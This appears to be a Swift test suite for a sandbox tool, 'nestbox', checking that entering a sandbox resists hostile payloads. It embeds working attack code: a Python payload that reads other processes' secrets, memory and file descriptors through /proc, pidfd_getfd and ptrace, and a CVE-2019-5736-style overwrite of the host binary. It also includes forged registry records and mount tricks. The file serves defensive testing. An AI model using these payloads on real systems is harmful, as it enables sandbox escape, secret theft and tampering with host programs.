// SPDX-License-Identifier: Apache-2.0
// A hostile payload, root with every capability in its user namespace, waits for someone to enter
// its sandbox. A small entrant that does not hide shows that each attack works.

import Foundation
import TestSupport
import Testing

@Suite("Entrances", .needs("gcc"), .needs("python3"))
struct EntranceTests {
  /// Joins the namespaces of a process and executes a command, as --enter does, but does not hide.
  private static let careless = """
    #define _GNU_SOURCE
    #include <fcntl.h>
    #include <sched.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <sys/prctl.h>
    #include <sys/wait.h>
    #include <unistd.h>
    int main(int count, char **words) {
      const char *kinds[] = {"user", "pid", "net", "ipc", "uts", "mnt"};
      int files[6];
      for (int i = 0; i < 6; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%s/ns/%s", words[1], kinds[i]);
        if ((files[i] = open(path, O_RDONLY | O_CLOEXEC)) < 0) return perror(path), 1;
      }
      for (int i = 0; i < 6; i++) setns(files[i], 0);
      prctl(PR_SET_DUMPABLE, 1);
      if (fork() == 0) {
        usleep(2000);
        setenv("SECRET", "", 1);
        execv(words[2], words + 2);
        _exit(127);
      }
      wait(NULL);
    }
    """

  /// Attacks every process that runs a file called nestbox, and prints each kind of success once.
  private static let payload = #"""
    import ctypes, os, sys
    libc = ctypes.CDLL(None, use_errno=True)
    class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    done, own = set(), os.getpid()
    def success(kind):
      if kind not in done: done.add(kind); print(kind, flush=True)
    def attack(pid):
      path = f"/proc/{pid}/"
      def entrant():
        # What it was executed as is no secret; afterwards it is the command, and anybody's.
        try: return "nestbox" in os.readlink(path + "exe")
        except OSError: return False
      try:
        if entrant(): success("exe")
        if b"SECRET=s3" in open(path + "environ", "rb").read(): success("environ")
      except OSError: pass
      for name in "root", "cwd":
        try:
          if entrant() and os.listdir(path + name): success(name)
        except OSError: pass
      try:
        for name in os.listdir(path + "fd"):
          if os.readlink(path + "fd/" + name).endswith("/hidden"): success("descriptor")
      except OSError: pass
      try:
        memory = os.open(path + "mem", os.O_RDWR)
        if entrant(): success("mem")
        os.close(memory)
      except OSError: pass
      handle = libc.syscall(434, pid, 0)
      if handle >= 0:
        taken = libc.syscall(438, handle, 9, 0)
        if taken >= 0:
          if os.readlink(f"/proc/self/fd/{taken}").endswith("/hidden"): success("pidfd_getfd")
          os.close(taken)
        os.close(handle)
      if libc.ptrace(0x4206, pid, 0, 0) == 0:
        if entrant(): success("ptrace")
        # It may have ended; without the wait it would stay a zombie.
        libc.ptrace(0x4207, pid, 0, 0)
        try: os.waitpid(pid, 0x40000000)
        except ChildProcessError: pass
        libc.ptrace(17, pid, 0, 0)
    print("ready", flush=True)
    os.set_blocking(0, False)
    while True:
      try:
        if os.read(0, 1) == b"": break
      except BlockingIOError: pass
      for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, own): attack(int(name))
    """#

  /// Starts the payload in a sandbox, `box`, which `target` names.
  private static func scene(_ tool: String = "nestbox --name box --close-fds") -> String {
    """
    import os, subprocess, sys, threading
    os.mkdir("run", 0o700); os.mkdir("hidden"); os.environ["XDG_RUNTIME_DIR"] = os.path.abspath("run")
    hidden = os.open("hidden", os.O_RDONLY); os.dup2(hidden, 9)
    os.environ["SECRET"] = "s3cret"
    box = subprocess.Popen([*"\(tool)".split(), "--unshare-all", "--unshare-user", "--uid", "0", "--gid", "0", "--cap-add",
      "ALL", "--unsetenv", "SECRET", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc",
      "python3", "payload.py"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    box.stdout.readline()
    target = "\(tool)".startswith("nestbox") and "box" or str(box.pid)
    def children(pid):
      with open(f"/proc/{pid}/task/{pid}/children") as file: return file.read().split()
    # The payload, below init; what enters comes later.
    def inside(): return children(children(box.pid)[0])[0]
    def finish():
      box.stdin.close(); print(sorted(box.stdout.read().split())); box.wait(100)

    """
  }

  // Red: while an entrant is inside and has not executed its command, the payload reads its
  // variables, memory or descriptors, follows its links, or traces it.
  @Test(.needs("bwrap"), arguments: ["nestbox --name box --close-fds", "bwrap"])
  func `A payload that waits for someone to enter gets nothing of them`(_ tool: String) throws {
    let rounds = ProcessInfo.processInfo.environment["NESTBOX_SOAK"] == nil ? 60 : 1000
    let session = try Session()
    try session.write("payload.py", EntranceTests.payload)
    let outcome = try session.python(
      EntranceTests.scene(tool) + """
        failed = 0
        def some():
          global failed
          for i in range(\(rounds) // 3):
            failed += subprocess.run(["nestbox", "--enter", target, "/bin/true"], pass_fds=[9]).returncode != 0
        threads = [threading.Thread(target=some) for i in range(3)]
        for thread in threads: thread.start()
        for thread in threads: thread.join()
        print(failed)
        finish()
        """)
    #expect(outcome.lines == ["0", "[]"], "\(outcome)")
  }

  // Without it the test above would prove nothing: no prctl(2) of this nestbox has an effect, so it
  // believes that it hides.
  @Test(.needs("strace"), .needs("bwrap"), arguments: ["nestbox --name box --close-fds", "bwrap"])
  func `The same payload takes over a nestbox that cannot hide`(_ tool: String) throws {
    let session = try Session()
    try session.write("payload.py", EntranceTests.payload)
    let outcome = try session.python(
      EntranceTests.scene(tool) + """
        weaken = ["strace", "-f", "-o", "/dev/null", "-e", "trace=prctl", "-e", "inject=prctl:retval=0"]
        for i in range(60):
          subprocess.run([*weaken, "nestbox", "--enter", target, "/bin/true"], pass_fds=[9])
        finish()
        """)
    #expect(outcome.lines.last?.contains("'exe', 'mem'") == true, "\(outcome)")
  }

  // The same for all attacks.
  @Test func `The same payload takes over an entrant that does not hide`() throws {
    let session = try Session()
    try session.write("payload.py", EntranceTests.payload)
    try session.write("careless.c", EntranceTests.careless)
    let outcome = try session.python(
      EntranceTests.scene() + """
        subprocess.run(["gcc", "-o", "nestbox-careless", "careless.c"], check=True)
        for i in range(60):
          subprocess.run(["./nestbox-careless", inside(), "/bin/true"], pass_fds=[9])
        finish()
        """)
    #expect(
      outcome.lines == [
        "['cwd', 'descriptor', 'environ', 'exe', 'mem', 'pidfd_getfd', 'ptrace', 'root']"
      ], "\(outcome)")
  }

  /// Keeps what /proc/PID/exe of any process leads to, and writes to it once the process has ended.
  private static let overwriter = #"""
    import os, sys, time
    print("ready", flush=True)
    os.set_blocking(0, False)
    kept = {}
    while True:
      try:
        if os.read(0, 1) == b"": break
      except BlockingIOError: pass
      for name in os.listdir("/proc"):
        if not name.isdigit(): continue
        try:
          # Reading is enough for a hold on it.
          file = os.open(f"/proc/{name}/exe", os.O_RDONLY)
          key = os.fstat(file).st_ino
          if "nestbox" in os.readlink(f"/proc/self/fd/{file}") and key not in kept: kept[key] = file
          else: os.close(file)
        except OSError: pass
    for round in range(200):
      for file in kept.values():
        try:
          with open(f"/proc/self/fd/{file}", "r+b") as target: target.write(b"overwritten")
        except OSError: pass
      time.sleep(0.01)
    print("held" if kept else "none", flush=True)
    """#

  // Red: the payload has the entrant execute its own program file, and then writes to the user's
  // nestbox (CVE-2019-5736).
  @Test(arguments: ["link", "script"])
  func `The file of nestbox cannot be overwritten through an entrant`(_ way: String) throws {
    let session = try Session()
    try session.write("payload.py", EntranceTests.overwriter)
    try session.write("careless.c", EntranceTests.careless)
    let outcome = try session.python(
      """
      import shutil
      """ + "\n"
        + EntranceTests.scene().replacing(
          "\"--ro-bind\", \"/\", \"/\"",
          with: "\"--ro-bind\", \"/\", \"/\", \"--bind\", \"work\", \"/work\""
        )
        .replacing(
          "hidden = os.open",
          with: """
            os.mkdir("work")
            if sys.argv[1] == "link": os.symlink("/proc/self/exe", "work/sh")
            else:
              with open("work/sh", "w") as file: file.write("#!/proc/self/exe\\n")
              os.chmod("work/sh", 0o755)
            os.mkdir("bin"); shutil.copy(shutil.which("nestbox"), "bin/nestbox")
            subprocess.run(["gcc", "-o", "bin/nestbox-careless", "careless.c"], check=True)
            hidden = os.open
            """) + """
          def bytes(name):
            with open(name, "rb") as file: return file.read(11)
          before = bytes("bin/nestbox"), bytes("bin/nestbox-careless")
          for i in range(20):
            subprocess.run(["bin/nestbox", "--enter", "box", "/work/sh", "--version"], stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL, timeout=100)
            subprocess.run(["bin/nestbox-careless", inside(), "/work/sh"], stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL, timeout=100)
          finish()
          print(bytes("bin/nestbox") == before[0], bytes("bin/nestbox-careless") == before[1])
          """, way)
    // The careless one shows that the attack works.
    #expect(outcome.lines == ["['held']", "True False"], "\(outcome)")
  }

  // Red: a payload that can write to the registry has someone enter a sandbox of the payload's making,
  // without any protection.
  @Test func `A payload that forges the record of its sandbox cannot say what is entered`() throws {
    let session = try Session()
    try session.write(
      "forge.py",
      """
      import os, sys
      # Without a pid namespace the payload has the number that the host knows.
      stat = open("/proc/self/stat").read().rsplit(")", 1)[1].split()
      place = os.environ["REGISTRY"] + "/nestbox/box/"
      with open(place + "forged", "w") as file:
        file.write(f"nestbox-sandbox 1\\nmonitor {os.getpid()}\\nstarted {stat[19]}\\n")
      os.rename(place + "forged", place + "record")
      os.memfd_create("nestbox-sandbox"); os.memfd_create("nestbox-name-box")
      print("ready", flush=True); sys.stdin.read()
      """)
    let outcome = try session.python(
      """
      import os, subprocess
      os.mkdir("run", 0o700); os.environ["XDG_RUNTIME_DIR"] = os.environ["REGISTRY"] = os.path.abspath("run")
      box = subprocess.Popen(["nestbox", "--name", "box", "--bind", "/", "/", "python3", "forge.py"], stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE)
      box.stdout.readline()
      run = subprocess.run(["nestbox", "--enter", "box", "echo", "entered"], capture_output=True, text=True)
      print(run.returncode, run.stdout.strip(), run.stderr.strip())
      box.stdin.close(); box.wait(100)
      """)
    #expect(
      outcome.lines == [
        "125  nestbox: --enter: can't enter box: its launcher runs in another user namespace; enter the "
          + "sandbox from there"
      ], "\(outcome)")
  }

  // Red: what the payload has done to its sandbox decides what an entered command executes or sees.
  @Test(arguments: [
    "mount --bind /work /proc", "mount --bind /work /bin; mount --bind /work /usr/bin",
    "mount -t tmpfs none /work && mkdir /work/old && pivot_root /work /work/old",
    "mount -t tmpfs none /",
    "umount -l /proc; umount -R -l /usr", "kill -STOP 1",
  ])
  func `Whatever a payload does to its sandbox, a command enters the first root or none`(
    _ change: String
  ) throws {
    let outcome = try Session().run(
      """
      mkdir -m 700 run; export XDG_RUNTIME_DIR=$PWD/run; mkdir work; mkfifo hold
      printf '#!/work/evil\\n' >work/true; cp /bin/sh work/evil; chmod 755 work/true
      for name in ls cat id; do cp work/true work/$name; done
      nestbox --name box --unshare-all --unshare-user --uid 0 --gid 0 --cap-add ALL --bind / / --bind work /work --dev /dev --proc /proc \
        sh -c "$1; echo done; exec 3<&0; read line <&3" <hold >log 2>&1 & exec 4>hold
      until grep -q done log; do sleep 0.02; done
      timeout 20 nestbox --enter box /bin/true; status=$?
      case $status in 0|126|127) echo fine;; *) echo $status;; esac
      timeout 20 nestbox --enter box grep -E '^(Cap(Eff|Bnd)|NoNew)' /proc/self/status >told
      exec 4>&-; nestbox --stop box; wait; ls run/nestbox
      """, change)
    #expect(outcome.lines == ["fine"], "\(outcome)")
  }

  // Red: a payload that can write to the registry gives its name to another sandbox, which a person
  // then enters or stops by mistake.
  @Test("No payload can give a sandbox a name", arguments: ["copy", "rename"])
  func forgedName(_ way: String) throws {
    let outcome = try Session().run(
      """
      export XDG_RUNTIME_DIR=$PWD/run; mkdir -m 700 run
      nestbox --name honest --keep --detach --unshare-pid --ro-bind / /
      cat >forge.sh <<'END'
      cd run/nestbox
      case $1 in
        copy) mkdir -m 700 forged; cp honest/record forged; exec 9<forged; flock 9 ;;
        rename) mv honest forged ;;
      esac
      echo forged; read line
      [ $1 = copy ] || mv forged honest
      END
      coproc nestbox --bind / / bash forge.sh \(way); read made <&${COPROC[0]}; echo $made
      nestbox --list | grep -c '^forged'
      for task in "--inspect forged" "--enter forged true" "--stop forged" "--signal KILL forged"; do
        nestbox $task 2>&1 | grep -c "no running sandbox"
      done | sort | uniq -c | tr -s ' '
      echo >&${COPROC[1]}; wait; nestbox --enter honest echo entered; nestbox --stop honest; echo $?
      """)
    #expect(outcome.lines == ["forged", "0", " 4 1", "entered", "0"], "\(outcome)")
  }
}
